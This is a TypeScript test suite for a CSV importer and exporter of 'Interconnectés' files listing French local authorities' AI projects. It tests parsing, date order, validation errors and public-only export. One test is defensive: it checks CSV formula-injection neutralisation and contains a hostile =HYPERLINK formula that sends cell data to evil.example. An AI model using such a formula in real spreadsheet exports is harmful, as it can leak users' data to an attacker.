// Interconnectés files, on the fixtures we wrote in their layouts (test/fixtures/interconnectes/): the 16-column
// public file, the 27-column full model and their schema's field names and vocabularies. The same behaviours on
// their real files (33 use cases): interconnectes.shared.test.ts.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { fixtureBytes, fixtureText } from '../../../../test/helpers/fixtures.ts';
import { INTERCONNECTES_PUBLIC_COLUMNS } from '../fields.ts';
import { filledContent, SAMPLE_ORGANISATION, sampleRecord } from '../fixtures.ts';
import { ANONYMOUS, type ImportRecord, type PresentedUseCase, present, type UseCaseRecord } from '../model.ts';
import { audiences, authorityTypes, INTERCONNECTES_VALUES, projectStatuses } from '../reference.ts';
import { parseCsv } from './csv.ts';
import {
  exportInterconnectes,
  inferDayOrder,
  parseInterconnectes,
  readDateCell,
  writeDateCell,
} from './interconnectes.ts';
import { type TableSchema, validateTable } from './table-schema.ts';

const file = (name: string) => fixtureBytes(`interconnectes/${name}`);
const schema = JSON.parse(fixtureText('interconnectes/schema.json')) as TableSchema;
const LIST_FIELDS = { Sous_Theme: ', ', Audience: ', ' };

/** Imported rows as published sheets presented to an anonymous visitor (what the open-data export receives). */
function publishedSheets(records: readonly ImportRecord[]): PresentedUseCase[] {
  const orgIds = new Map<string, number>();
  return records.map((r, i) => {
    const key = r.organisation.siret ?? r.organisation.siren!;
    if (!orgIds.has(key)) orgIds.set(key, orgIds.size + 1);
    const id = orgIds.get(key)!;
    const record: UseCaseRecord = {
      id: i + 1,
      slug: `fiche-${i + 1}`,
      organisationId: id,
      organisation: {
        id,
        name: r.organisation.name,
        type: r.organisation.type,
        siren: r.organisation.siren,
        siret: r.organisation.siret,
        country: r.organisation.country,
      },
      state: 'published',
      revision: null,
      version: 1,
      content: r.content,
      externalKey: r.externalKey,
      createdAt: '2025-01-01T00:00:00.000Z',
      updatedAt: '2025-01-01T00:00:00.000Z',
      publishedAt: '2025-01-01T00:00:00.000Z',
      archivedAt: null,
      archiveReason: null,
    };
    return present(record, ANONYMOUS)!;
  });
}

describe('Interconnectés public file (our data.csv, 16 columns)', () => {
  const parsed = parseInterconnectes(file('data.csv'));
  const ROWS = 8;

  it('reads all 8 rows without error', () => {
    assert.equal(parsed.variant, 'public');
    assert.equal(parsed.rows, ROWS);
    assert.equal(parsed.records.length, ROWS);
    assert.deepEqual(parsed.errors, []);
  });

  it('maps themes, sub-themes, statuses, audiences, types, SIRET and dates', () => {
    const roofs = parsed.records[0]!;
    assert.equal(roofs.externalKey, 'interconnectes:24330031600011:thermographie-des-toitures');
    assert.equal(roofs.line, 2);
    assert.deepEqual(roofs.organisation, {
      name: 'Bordeaux Métropole',
      siret: '24330031600011',
      siren: '243300316',
      type: 'metropole',
      country: 'FR',
      foreign: false,
      sourceCategory: null,
    });
    assert.equal(roofs.content.theme, 'ecological_transition');
    assert.deepEqual(roofs.content.subThemes, ['energy_performance', 'digital_twin']);
    assert.equal(roofs.content.projectStatus, 'experimentation');
    assert.equal(roofs.content.startDate, '2024-03');
    assert.equal(roofs.content.infoUpdatedOn, '2025-05-22');
    assert.deepEqual(roofs.content.audiences, ['agents']);
    assert.equal(roofs.content.latitude, 44.8378);

    const spaced = parsed.records.find((r) => r.organisation.name === "Département d'Ille et Vilaine")!;
    assert.equal(spaced.organisation.siret, '22350001800013', 'SIRET écrit avec des espaces');
    assert.equal(spaced.content.projectStatus, 'finished', '« Terminé » est lu');
    assert.deepEqual(spaced.content.audiences, ['agents', 'elected_officials'], '« Élu » est lu');
    const finished = parsed.records.filter((r) => r.content.projectStatus === 'finished');
    assert.equal(finished.length, 2);
    assert.equal(parsed.records.filter((r) => r.content.projectStatus === 'abandoned').length, 1);
    const ept = parsed.records.find((r) => r.organisation.name.startsWith('Etablissement Public Territorial'))!;
    assert.equal(ept.organisation.type, 'epci');
    const agglomeration = parsed.records.find((r) => r.organisation.name === 'CA SICOVAL')!;
    assert.equal(agglomeration.organisation.type, 'communaute_agglomeration');
    assert.deepEqual(
      parsed.records.map((r) => r.organisation.type),
      ['metropole', 'commune', 'departement', 'epci', 'communaute_agglomeration', 'metropole', 'metropole', 'region'],
    );
    const multiline = parsed.records.find((r) => r.content.title?.startsWith('Résumé automatique\ndes'));
    assert.ok(multiline, 'les retours à la ligne des noms sont conservés');
    assert.equal(parsed.records[5]!.line, 8, 'les lignes comptent les retours à la ligne des cellules');
  });

  it('warns, with line and column, about links that are not web addresses, and keeps them', () => {
    const w = parsed.warnings.filter((x) => x.column === 'URL_Service');
    assert.deepEqual(
      w.map((x) => x.line),
      [4, 5],
    );
    assert.equal(parsed.warnings.length, 2);
    const kept = parsed.records.find((r) => r.line === 4)!;
    assert.equal(kept.content.serviceUrl, 'accès interne uniquement');
  });

  it('exports a file that validates against their schema.json', () => {
    const { csv, count, skipped } = exportInterconnectes(publishedSheets(parsed.records));
    assert.equal(count, ROWS);
    assert.deepEqual(skipped, []);
    assert.ok(csv.startsWith(`${INTERCONNECTES_PUBLIC_COLUMNS.join(',')}\r\n`));
    assert.deepEqual(validateTable(schema, csv, { columns: 'subset', listFields: LIST_FIELDS }), []);
  });

  it('round-trips: importing data.csv then exporting gives back the same values for every row', () => {
    const { csv } = exportInterconnectes(publishedSheets(parsed.records));
    const original = parseCsv(file('data.csv').toString('utf8')).records.slice(1);
    const exported = parseCsv(csv).records.slice(1);
    assert.equal(exported.length, ROWS);
    const col = (name: string) => INTERCONNECTES_PUBLIC_COLUMNS.indexOf(name as never);
    // Columns written in their schema's vocabulary: the same value, in its canonical spelling.
    const canonical: Record<string, (v: string) => string> = {
      SIRET: (v) => v.replace(/\s/g, ''),
      Type_de_collectivite: (v) => INTERCONNECTES_VALUES.authorityTypes[authorityTypes.match(v)!],
      Statut_du_projet: (v) => INTERCONNECTES_VALUES.projectStatuses[projectStatuses.match(v)!],
      Audience: (v) =>
        [...new Set(v.split(',').map((a) => INTERCONNECTES_VALUES.audiences[audiences.match(a)!]))].join(', '),
    };
    for (let row = 0; row < ROWS; row++) {
      const before = original[row]!.fields;
      const after = exported[row]!.fields;
      for (const name of INTERCONNECTES_PUBLIC_COLUMNS) {
        // Surrounding spaces are trimmed and Windows line ends inside a cell become \n on import.
        const a = before[col(name)]!.replace(/\r\n/g, '\n').trim();
        const b = after[col(name)]!;
        const where = `ligne ${original[row]!.line}, ${name}`;
        if (name === 'Latitude' || name === 'Longitude') assert.equal(Number(b), Number(a), where);
        else if (canonical[name]) assert.equal(b, canonical[name]!(a), where);
        else assert.equal(b, a, where);
      }
    }
    // What changes is only spelling: « Terminé » -> « Terminée », « Métropole » -> « EPCI », « Élu » -> « Elu ».
    const changed = (name: string) =>
      original.filter((r, i) => r.fields[col(name)] !== exported[i]!.fields[col(name)]).length;
    assert.equal(changed('Type_de_collectivite'), 5);
    assert.equal(changed('Statut_du_projet'), 2);
    assert.equal(changed('SIRET'), 1);
  });

  it('reads its own export back to the same sheets', () => {
    const { csv } = exportInterconnectes(publishedSheets(parsed.records));
    const again = parseInterconnectes(csv);
    assert.deepEqual(again.errors, []);
    assert.equal(again.records.length, ROWS);
    for (let i = 0; i < ROWS; i++) {
      const a = parsed.records[i]!;
      const b = again.records[i]!;
      assert.equal(b.externalKey, a.externalKey, 'clé externe stable');
      assert.deepEqual(b.content, a.content, `contenu ligne ${a.line}`);
      assert.equal(b.organisation.siret, a.organisation.siret);
      // Their vocabulary has one value for every intercommunal body.
      assert.equal(
        INTERCONNECTES_VALUES.authorityTypes[b.organisation.type!],
        INTERCONNECTES_VALUES.authorityTypes[a.organisation.type!],
      );
    }
  });

  it('exports public fields only, and only from anonymous presentations', () => {
    const record = sampleRecord();
    const { csv } = exportInterconnectes([present(record, ANONYMOUS)!]);
    assert.ok(!csv.includes('m7:contactEmail') && !csv.includes('m7:internalNotes') && !csv.includes('m7:funding'));
    assert.ok(csv.includes('m7:title'));
    const asCoordinator = present(record, { kind: 'coordinator', userId: 1 })!;
    assert.throws(() => exportInterconnectes([asCoordinator]), /visiteur anonyme/);
  });

  it('writes every sheet, with the best identifier known in the SIRET column, and lists every substitution', () => {
    const withOrg = (id: number, org: Partial<typeof SAMPLE_ORGANISATION>) =>
      present(
        sampleRecord({ organisation: { ...SAMPLE_ORGANISATION, id, ...org }, organisationId: id, id }),
        ANONYMOUS,
      )!;
    const foreign = withOrg(3, { siret: null, siren: null, inseeCode: null, country: 'NL', name: 'Gemeente Utrecht' });
    const sirenOnly = withOrg(4, { siret: null, siren: '200046977', name: 'Métropole de Lyon' });
    const inseeOnly = withOrg(5, { siret: null, siren: null, inseeCode: '49007', name: 'Angers' });
    const content = { ...filledContent(), logoUrl: null, infoUpdatedOn: null, projectStatus: 'exploration' as const };
    const french = present(sampleRecord({ content }), ANONYMOUS)!;
    const result = exportInterconnectes([foreign, sirenOnly, inseeOnly, french], {
      defaultLogoUrl: 'https://exemple.fr/logo.svg',
    });
    assert.equal(result.count, 4, 'une ligne par fiche, aucune omise');
    assert.deepEqual(result.skipped, []);
    const records = parseCsv(result.csv).records.slice(1);
    assert.equal(records.length, 4);
    const siret = INTERCONNECTES_PUBLIC_COLUMNS.indexOf('SIRET');
    assert.deepEqual(
      records.map((r) => r.fields[siret]),
      ['', '200046977', '49007', '20004697700019'],
    );
    assert.deepEqual(
      result.substituted.map((s) => [s.organisation, s.identifier]),
      [
        ['Gemeente Utrecht', 'aucun'],
        ['Métropole de Lyon', 'SIREN'],
        ['Angers', 'code INSEE'],
      ],
    );
    assert.ok(result.substituted.every((s) => s.reason.length > 20));
    const row = records[3]!.fields;
    assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('URL_Logo')], 'https://exemple.fr/logo.svg');
    assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Date_de_derniere_mise_a_jour')], '01/03/2025');
    assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Statut_du_projet')], 'En expérimentation');
    const withIdentifier = exportInterconnectes([sirenOnly, inseeOnly, french], {
      defaultLogoUrl: 'https://exemple.fr/l.svg',
    });
    assert.deepEqual(validateTable(schema, withIdentifier.csv, { columns: 'subset', listFields: LIST_FIELDS }), []);
  });

  it('neutralises a hostile title or organisation name (formula injection)', () => {
    const hostile = present(
      sampleRecord({
        organisation: { ...SAMPLE_ORGANISATION, name: '=1+1' },
        content: { ...filledContent(), title: '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")' },
      }),
      ANONYMOUS,
    )!;
    const row = parseCsv(exportInterconnectes([hostile]).csv).records[1]!.fields;
    assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Nom_collectivite')], "'=1+1");
    assert.equal(
      row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Nom_du_projet')],
      `'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")`,
    );
  });
});

describe('Interconnectés full model (our full-model.csv, 27 columns)', () => {
  const parsed = parseInterconnectes(file('full-model.csv'));

  it('is recognised by its header and read without error', () => {
    assert.equal(parsed.variant, 'full');
    assert.equal(parsed.records.length, 4);
    assert.deepEqual(parsed.errors, []);
  });

  it('reads month/day dates written by a spreadsheet, and says so', () => {
    const [compost, air] = parsed.records;
    assert.equal(compost!.content.startDate, '2023-02-01');
    assert.equal(air!.content.startDate, '2021-10-01');
    assert.equal(air!.content.infoUpdatedOn, '2025-06-20');
    assert.ok(parsed.warnings.some((w) => w.column === 'projet_date' && /mois\/jour\/année/.test(w.message)));
    assert.ok(parsed.warnings.some((w) => w.column === 'date' && /mois\/jour\/année/.test(w.message)));
  });

  it('maps short theme names, budget spellings and restricted fields', () => {
    const [compost, air, lights, fire] = parsed.records;
    assert.equal(compost!.content.theme, 'ecological_transition'); // « Transition écologique »
    assert.equal(lights!.content.theme, 'mobility'); // « Mobilité »
    assert.equal(air!.content.budgetBand, 'from_50k_to_100k'); // « entre 50k€ et 100k€ »
    assert.equal(compost!.content.budgetBand, 'above_100k');
    assert.equal(lights!.content.budgetBand, 'below_50k');
    assert.equal(compost!.content.contactEmail, 'compost@exemple.fr');
    assert.equal(compost!.content.implementation, 'service_providers');
    assert.equal(lights!.content.implementation, 'in_house');
    assert.equal(compost!.content.hosting, 'third_party_cloud');
    assert.equal(fire!.content.hosting, 'internal');
    assert.equal(compost!.content.algorithmName, 'PrevisionBacs');
    assert.deepEqual(compost!.content.techniques, ['machine_learning']);
    assert.deepEqual(air!.content.techniques, ['neural_networks']);
    assert.deepEqual(fire!.content.techniques, ['computer_vision']);
    assert.equal(compost!.content.dataAccess, 'api');
    assert.equal(compost!.content.funding, 'Fonds vert');
    assert.equal(air!.organisation.type, 'region');
    assert.equal(fire!.organisation.type, 'departement');
    assert.deepEqual(air!.content.subThemes, ['health_access', 'data_platform']);
  });

  it('keeps a data source outside the list as details, with a warning', () => {
    const [compost, air] = parsed.records;
    assert.deepEqual(compost!.content.dataSources, []);
    assert.equal(compost!.content.dataSourceDetails, 'Relevés de pesée');
    assert.ok(parsed.warnings.some((w) => w.line === 2 && w.column === 'donnees_source'));
    assert.deepEqual(air!.content.dataSources, ['open_data']);
    assert.ok(!parsed.warnings.some((w) => w.line === 3 && w.column === 'donnees_source'));
  });
});

describe('Interconnectés errors', () => {
  it('reports each problem with its line and column, in French', () => {
    const csv = [
      'Nom_collectivite,Nom_du_projet,SIRET,Latitude,Longitude,Type_de_collectivite,Date_de_demarrage,Statut_du_projet,Theme,Description_service',
      'Ville A,,21750001600019,48.8,2.3,Commune,01/2024,En déploiement,Mobilités,Texte',
      'Ville B,Projet B,1234,48.8,2.3,Commune,01/2024,En déploiement,Mobilités,Texte',
      'Ville C,Projet C,21750001600019,nord,2.3,Commune,13/2024,En déploiement,Tourisme,"Texte',
      'sur deux lignes"',
      'Ville D,Projet D,21750001600019,48.8,2.3,Commune,01/2024,Bientôt,Mobilités,Texte',
      'Ville E,Projet E,21750001600019,48.8,2.3',
      'Ville F,Projet F,21750001600019,48.8,2.3,Commune,01/2024,En déploiement,Mobilités,Texte',
      'Ville F,Projet F,21750001600019,48.8,2.3,Commune,01/2024,En déploiement,Mobilités,Texte',
    ].join('\n');
    const { errors, records } = parseInterconnectes(csv);
    const summary = errors.map((e) => `${e.line}|${e.column ?? ''}|${e.message}`);
    assert.deepEqual(summary, [
      '2|Nom_du_projet|Nom du projet manquant.',
      '3|SIRET|SIRET illisible « 1234 » : 14 chiffres attendus (ou 9 pour un SIREN).',
      '4|Date_de_demarrage|Date illisible « 13/2024 » : attendu MM/AAAA ou JJ/MM/AAAA.',
      '4|Latitude|Nombre illisible « nord ».',
      '4|Theme|Thème principal inconnu « Tourisme ». Valeurs possibles : Transition écologique et énergétique, Attractivité et développement, Citoyenneté, santé et solidarité, Mobilités, Gouvernance et socles technologiques, Administration et organisation interne.',
      '6|Statut_du_projet|Statut du projet inconnu « Bientôt ». Valeurs possibles : En exploration, En expérimentation, En déploiement, Terminé, Abandonné.',
      '7||La ligne compte 5 colonnes au lieu de 10.',
      '9||Doublon : même SIRET et même nom de projet qu’à la ligne 8.',
    ]);
    assert.equal(records.length, 1);
  });

  it('refuses a file that is not an Interconnectés file', () => {
    const r = parseInterconnectes('PSTW ID,Name\nPSTW-1,Test\n');
    assert.equal(r.records.length, 0);
    assert.match(r.errors[0]!.message, /En-tête non reconnu/);
    assert.deepEqual(parseInterconnectes('').errors, [{ line: 1, column: null, message: 'Le fichier est vide.' }]);
  });

  it('accepts semicolons and Windows-1252 bytes', () => {
    const text =
      'Nom_collectivite;Nom_du_projet;SIRET;Type_de_collectivite;Statut_du_projet;Theme\nRégion Sud;Prévision;200 054 807 00017;Région;Terminée;Mobilités\n';
    const bytes = new Uint8Array(Buffer.from(text, 'latin1'));
    const r = parseInterconnectes(bytes);
    assert.deepEqual(r.errors, []);
    assert.equal(r.records[0]!.organisation.name, 'Région Sud');
    assert.equal(r.records[0]!.content.title, 'Prévision');
  });
});

describe('Interconnectés dates', () => {
  it('infers the day order of a column', () => {
    assert.equal(inferDayOrder(['1/1/2023', '3/1/2022', '11/1/2022']), 'mdy');
    assert.equal(inferDayOrder(['1/3/2023', '15/1/2022']), 'dmy');
    assert.equal(inferDayOrder(['12/12/2024']), 'dmy');
    assert.equal(inferDayOrder(['01/2024']), 'dmy');
  });
  it('reads and writes cells', () => {
    assert.equal(readDateCell('04/2025', 'dmy'), '2025-04');
    assert.equal(readDateCell('1/3/2023', 'dmy'), '2023-03-01');
    assert.equal(readDateCell('1/3/2023', 'mdy'), '2023-01-03');
    assert.equal(readDateCell('31/02/2023', 'dmy'), null);
    assert.equal(writeDateCell('2025-04'), '04/2025');
    assert.equal(writeDateCell('2025-05-22'), '22/05/2025');
    assert.equal(writeDateCell('2020'), '01/2020');
  });
});
